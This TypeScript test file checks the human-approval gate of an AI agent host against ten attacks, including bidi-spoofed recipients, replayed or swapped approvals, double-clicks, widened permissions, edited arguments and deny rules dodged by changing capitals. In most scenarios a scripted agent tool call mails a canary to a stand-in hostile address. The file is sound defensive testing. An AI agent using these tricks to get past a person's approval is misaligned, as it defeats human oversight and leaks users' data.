import { readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, vi } from 'vitest';
import type { Approval, ApprovalDecision, ArgumentPattern } from '../../preload/contract/policy.ts';
import type * as approvalsModule from '../../main/host/policy/approvals.ts';
import type { CallFacts } from '../../main/host/policy/callFacts.ts';
import type * as gateModule from '../../main/host/turn/gateCall.ts';
import { visiblePieces } from '../../renderer/text/visiblePieces.ts';
import { tempFolder } from '../doubles/hostParts.ts';
import { playedServer } from '../doubles/playedServer.ts';
import { card } from '../doubles/testHost.ts';
import { agree } from '../host/featureWorld.ts';
import { type Attack, describeAttacks } from './attack.ts';
import { idOf } from './pages.ts';
import { canary, hasty, no, once, setStage, type Stage, type Told, type User } from './stage.ts';

vi.mock('../../main/host/policy/approvals.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
vi.mock('../../main/host/policy/bindings.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
vi.mock('../../main/host/policy/denials.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
vi.mock('../../main/host/policy/patterns.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
vi.mock('../../main/host/turn/gateCall.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));
vi.mock('../../renderer/text/visiblePieces.ts', async (original) => (await import('./switchable.ts')).switchable(await original()));

type Approvals = ReturnType<typeof approvalsModule.createApprovals>;
type Answers = Parameters<Approvals['answer']>;
const { createGate } = await vi.importActual<typeof gateModule>('../../main/host/turn/gateCall.ts');
const { createApprovals } = await vi.importActual<typeof approvalsModule>('../../main/host/policy/approvals.ts');

/** The host with another way to take answers. */
const answeredBy = (instead: (real: Approvals, ...given: Answers) => Promise<void>) => ({
  createApprovals(deps: Parameters<typeof createApprovals>[0]): Approvals {
    const real = createApprovals(deps);
    return { ...real, answer: (...given) => instead(real, ...given) };
  },
});

const anna = 'anna@friends.example';
const stranger = 'stranger@evil.example';
const sendMail = { name: 'send_mail', description: 'Sends a mail.', answer: 'sent' };
const send = (to: string, body: string) => ({ tool: 'mail.send_mail', arguments: { to, body } });
const done = { text: 'Done.' };
const setMail = () => setStage({ servers: { mail: { tools: [sendMail] } }, effects: { 'mail.send_mail': ['sendsOut'] } });

/** How often the server was told to do something with the canary. */
const timesSent = (stage: Stage, server = 'mail'): number =>
  stage
    .journal(server)
    .split('\n')
    .filter((line) => line.includes('"tools/call"') && line.includes(canary)).length;

/** What a script in the page, or a hand that is too quick, sends to the host beside what the person answers. */
const press = (stage: Stage, { id: approvalId }: Approval, argumentsHash: string, decision: ApprovalDecision) =>
  stage.host.host.invoke('approval.answer', { commandId: crypto.randomUUID(), approvalId, argumentsHash, decision });

/** The person's own answer, where nobody has answered in his place by then. */
async function unlessAnswered(stage: Stage, { id }: Approval, decision: ApprovalDecision): Promise<ApprovalDecision> {
  const { approvals } = await stage.host.run('approval.list', {});
  return approvals.some((waiting) => waiting.id === id) ? decision : new Promise(() => undefined);
}

/** Payload and destination stand on the card that he did not allow. */
const onHostileCard = ({ cards }: Told): void => {
  const hostile = cards.find(({ arguments: { text } }) => text.includes(canary));
  expect(hostile?.arguments.text).toContain(stranger);
  expect(hostile?.destinations).toContain('/to');
};

/** As an eye reads a line: behind the override everything stands backwards, unless it was made visible. */
const seen = (text: string): string => {
  const shown = visiblePieces(text)
    .map((piece) => (piece.kind === 'text' ? piece.text : `[${piece.code}]`))
    .join('');
  const [before = '', ...behind] = shown.split('\u202e');
  return before + [...behind.join('')].reverse().join('');
};

const bidi: Attack = {
  name: 'an address that reads as another one, by a character that turns the direction',
  guard: 'characters without a look of their own are shown by their number',
  off: { visiblePieces: (text: string) => [{ kind: 'text', text }] },
  async run(kind) {
    const stage = await setMail();
    const to = kind === 'attack' ? `\u202e${[...anna].reverse().join('')}` : anna;
    const user: User = {
      card: ({ arguments: { text } }) => (seen((JSON.parse(text) as { to: string }).to) === anna ? once : no),
    };
    const told = await stage.chat([{ calls: [send(to, canary)] }, done], user);
    return { left: kind === 'attack' && timesSent(stage) > 0, done: timesSent(stage) > 0, told };
  },
  onCard({ cards }) {
    expect(cards[0]?.arguments.text).toContain(canary);
    expect(cards[0]?.destinations).toContain('/to');
    expect(seen(cards[0]?.arguments.text ?? '')).toContain('[U+202E]');
  },
};

const replay: Attack = {
  name: 'the answer to one card, sent again for the next call of the same arguments',
  guard: 'an answer is used once, for the call that it was given to',
  off: answeredBy((real, [answer, ...others], groupId) => {
    const same = real.list().find(({ argumentsHash }) => argumentsHash === answer?.argumentsHash);
    return real.answer(answer && same ? [{ ...answer, approvalId: same.id }, ...others] : [], groupId);
  }),
  async run(kind) {
    const stage = await setMail();
    let first: Approval | undefined;
    const user: User = {
      async card(approval) {
        if (kind === 'twin') return once;
        if (first === undefined) {
          first = approval;
          return once;
        }
        await press(stage, first, first.argumentsHash, once);
        return unlessAnswered(stage, approval, no);
      },
    };
    const call = send(stranger, canary);
    const told = await stage.chat([{ calls: [call] }, { calls: [call] }, done], user);
    return { left: kind === 'attack' && timesSent(stage) > 1, done: timesSent(stage) === 2, told };
  },
  onCard: onHostileCard,
};

const swap: Attack = {
  name: 'the answer to a harmless card, given to another one',
  guard: 'an answer carries the hash of the arguments that were shown',
  off: answeredBy((real, answers, groupId) => {
    const hashOf = (id: string) => real.list().find((waiting) => waiting.id === id)?.argumentsHash;
    return real.answer(
      answers.map((answer) => ({ ...answer, argumentsHash: hashOf(answer.approvalId) ?? answer.argumentsHash })),
      groupId,
    );
  }),
  async run(kind) {
    const stage = await setMail();
    const user: User = {
      async card(approval) {
        if (!approval.arguments.text.includes(canary)) return once;
        const harmless = await stage.host.until(card(0));
        await press(stage, approval, harmless.argumentsHash, once);
        return unlessAnswered(stage, approval, no);
      },
    };
    const calls = [send(anna, 'Hello!'), send(stranger, kind === 'attack' ? canary : 'Hello!')];
    const told = await stage.chat([{ calls }, done], user);
    return { left: timesSent(stage) > 0, done: stage.journal('mail').includes(`"to":"${stranger}"`), told };
  },
  onCard: onHostileCard,
};

const doubleClick: Attack = {
  name: 'a second click that meets the card behind',
  guard: 'an answer names its card, and the first one counts',
  off: answeredBy((real, answers, groupId) => {
    const top = real.list()[0];
    return real.answer(
      answers.map((answer) => (top ? { ...answer, approvalId: top.id, argumentsHash: top.argumentsHash } : answer)),
      groupId,
    );
  }),
  async run(kind) {
    const stage = await setMail();
    const clicked = Promise.withResolvers<void>();
    const user: User = {
      async card(approval) {
        if (approval.arguments.text.includes('Hello!')) {
          await stage.host.until(card(1));
          for (const _click of ['first', 'second']) await press(stage, approval, approval.argumentsHash, once);
          clicked.resolve();
          return new Promise(() => undefined);
        }
        await clicked.promise;
        return unlessAnswered(stage, approval, kind === 'attack' ? no : once);
      },
    };
    const calls = [send(anna, 'Hello!'), send(stranger, canary)];
    const told = await stage.chat([{ calls }, done], user);
    return {
      left: kind === 'attack' && timesSent(stage) > 0,
      done: stage.journal('mail').includes('Hello!') && timesSent(stage) === 1,
      told,
    };
  },
  onCard: onHostileCard,
};

const group: Attack = {
  name: 'a call that is slipped into the answer to a group of others',
  guard: 'an answer to a group holds for calls of that group alone',
  off: answeredBy((real, answers) => real.answer(answers)),
  async run(kind) {
    const stage = await setStage({
      servers: { mail: { tools: [sendMail] }, store: { tools: [{ name: 'save', description: 'Saves.', answer: 'saved' }] } },
      effects: { 'mail.send_mail': ['sendsOut'], 'store.save': ['changes'] },
    });
    const answered = Promise.withResolvers<void>();
    let shown = 0;
    const user: User = {
      async card(approval) {
        shown += 1;
        if (shown === 1) {
          const cards = [approval, await stage.host.until(card(1)), await stage.host.until(card(2))];
          const answerGroup = (of: Approval[]) =>
            stage.host.host.invoke('approval.answerGroup', {
              commandId: crypto.randomUUID(),
              groupId: approval.groupId,
              answers: of.map(({ id: approvalId, argumentsHash }) => ({ approvalId, argumentsHash, decision: once })),
            });
          const whole = kind === 'attack' ? await answerGroup(cards) : { ok: false };
          if (!whole.ok) await answerGroup(cards.filter(({ groupId }) => groupId === approval.groupId));
          answered.resolve();
        }
        await answered.promise;
        return unlessAnswered(stage, approval, no);
      },
    };
    const save = (name: string) => ({ tool: 'store.save', arguments: { name } });
    const told = await stage.chat([{ calls: [save('a'), save('b'), send(stranger, canary)] }, done], user);
    const saved = ['"name":"a"', '"name":"b"'].every((name) => stage.journal('store').includes(name));
    return { left: timesSent(stage) > 0, done: saved && timesSent(stage) === 0, told };
  },
  onCard: onHostileCard,
};

const wider: Attack = {
  name: 'a permission that is given for more than the card has offered',
  guard: 'a permission is bound to what the card has offered, or more tightly',
  off: { isNarrower: () => true },
  async run(kind) {
    const folder = tempFolder();
    const stage = await setStage({
      servers: { store: { tools: [{ name: 'save', description: 'Saves.', answer: 'saved' }] } },
      effects: { 'store.save': ['changes'] },
    });
    await stage.host.run('server.setContent', { serverId: await idOf(stage, 'store'), untrusted: false, private: false });
    const draft = path.join(folder, 'drafts', 'letter.txt');
    const user: User = {
      async card(approval) {
        if (!approval.arguments.text.includes('letter.txt')) return no;
        if (kind === 'twin') return { kind: 'allow', scope: 'chat' };
        const patterns = [{ at: '/path', match: { kind: 'glob' as const, value: `${folder}/**` } }];
        await press(stage, approval, approval.argumentsHash, { kind: 'allow', scope: 'chat', patterns });
        return unlessAnswered(stage, approval, once);
      },
    };
    const save = (file: string, text: string) => ({ tool: 'store.save', arguments: { path: file, text } });
    const second = kind === 'attack' ? save(path.join(folder, 'public', 'page.html'), canary) : save(draft, canary);
    const told = await stage.chat([{ calls: [save(draft, 'Dear Anna')] }, { calls: [second] }, done], user);
    const sent = timesSent(stage, 'store') > 0;
    return { left: kind === 'attack' && sent, done: sent && told.cards.length === 1, told };
  },
  onCard({ cards }) {
    const hostile = cards.find(({ arguments: { text } }) => text.includes(canary));
    expect(hostile?.arguments.text).toContain('page.html');
    expect(hostile?.looks).toMatchObject([{ at: '/path', path: expect.stringContaining('page.html') }]);
  },
};

const besideRecipient: Attack = {
  name: 'a permission for one recipient, used with a further argument that picks another place',
  guard: 'where nobody has said what picks the place, a permission holds for the same arguments only',
  off: { bindsAll: () => true },
  async run(kind) {
    const stage = await setMail();
    const mail = (more: Record<string, unknown>) => ({ tool: 'mail.send_mail', arguments: { to: anna, body: canary, ...more } });
    await stage.chat([{ calls: [mail({})] }, done], { card: () => ({ kind: 'allow', scope: 'always' }) });
    // A new chat, which has read nothing.
    const told = await stage.chat([{ calls: [mail(kind === 'attack' ? { list: 'strangers' } : {})] }, done], { card: () => no });
    return {
      left: stage.journal('mail').includes('strangers'),
      done: timesSent(stage) === 2 && told.cards.length === 0,
      told,
    };
  },
  onCard({ cards }) {
    expect(cards[0]?.arguments.text).toContain(canary);
    expect(cards[0]?.arguments.text).toContain('strangers');
    expect(cards[0]?.offers?.at(-1)?.text).toContain('with the same body and list');
  },
};

const edited: Attack = {
  name: 'arguments that are changed on the card into what the person has forbidden',
  guard: 'changed arguments are decided about anew',
  off: { hits: () => false },
  async run(kind) {
    const stage = await setMail();
    await stage.host.run('rule.add', {
      rule: {
        serverId: await idOf(stage, 'mail'),
        tool: 'send_mail',
        verdict: 'deny',
        scope: 'always',
        patterns: [{ at: '/to', match: { kind: 'exact', value: stranger } }],
      },
    });
    const to = kind === 'attack' ? stranger : 'anna@work.example';
    const user: User = {
      async card(approval) {
        await press(stage, approval, approval.argumentsHash, { ...once, edited: JSON.stringify({ to, body: canary }) } as ApprovalDecision);
        return unlessAnswered(stage, approval, no);
      },
    };
    const told = await stage.chat([{ calls: [send(anna, 'Hello!')] }, done], user);
    return { left: kind === 'attack' && timesSent(stage) > 0, done: timesSent(stage) > 0, told };
  },
};

const spelled: Attack = {
  name: 'a recipient whom the person has forbidden, in a list and in other capitals',
  guard: 'a denial hits what is meant, however it is written',
  off: {
    hits: ({ at, match }: ArgumentPattern, { values }: Pick<CallFacts, 'values'>) =>
      match.kind === 'exact' && values[at.slice(1)] === match.value,
  },
  async run(kind) {
    const stage = await setMail();
    await stage.host.run('rule.add', {
      rule: {
        serverId: await idOf(stage, 'mail'),
        tool: 'send_mail',
        verdict: 'deny',
        scope: 'always',
        patterns: [{ at: '/to', match: { kind: 'exact', value: stranger } }],
      },
    });
    const to = [anna, kind === 'attack' ? stranger.toUpperCase() : 'anna@work.example'];
    const told = await stage.chat([{ calls: [{ tool: 'mail.send_mail', arguments: { to, body: canary } }] }, done], hasty);
    return { left: kind === 'attack' && timesSent(stage) > 0, done: timesSent(stage) > 0, told };
  },
};

const replaced: Attack = {
  name: 'another program in the place of the one that a waiting card was about',
  guard: 'an approval is bound to the program that it was given for',
  off: {
    createGate: (deps: Parameters<typeof createGate>[0]) =>
      createGate({ ...deps, calledNow: () => ({ configuration: undefined, definition: undefined }) }),
  },
  async run(kind) {
    const stage = await setStage({ servers: { mail: { tools: [sendMail] } }, reviews: 'all' });
    const { host } = stage;
    const serverId = await idOf(stage, 'mail');
    const accept = async () => {
      const { review } = await host.run('definition.review', { serverId });
      await host.run('definition.accept', { serverId, seen: review.seen });
    };
    await accept();
    const other = playedServer({ tools: [sendMail] });
    const user: User = {
      // The card still waits while he agrees to another program under the same name, or starts the same one anew.
      async card() {
        if (kind === 'twin') await host.run('server.restart', { serverId });
        else {
          const config = { id: serverId, command: process.execPath, args: other.args };
          await host.run('server.update', { serverId, configJson: JSON.stringify(config) });
          await agree(host, serverId);
          await expect.poll(accept).toBeUndefined();
        }
        return once;
      },
    };
    const told = await stage.chat([{ calls: [send(anna, canary)] }, done], user);
    return { left: readFileSync(other.args.at(-1) ?? '', 'utf8').includes(canary), done: timesSent(stage) === 1, told };
  },
};

describeAttacks([replaced, besideRecipient, bidi, replay, swap, doubleClick, group, wider, edited, spelled]);
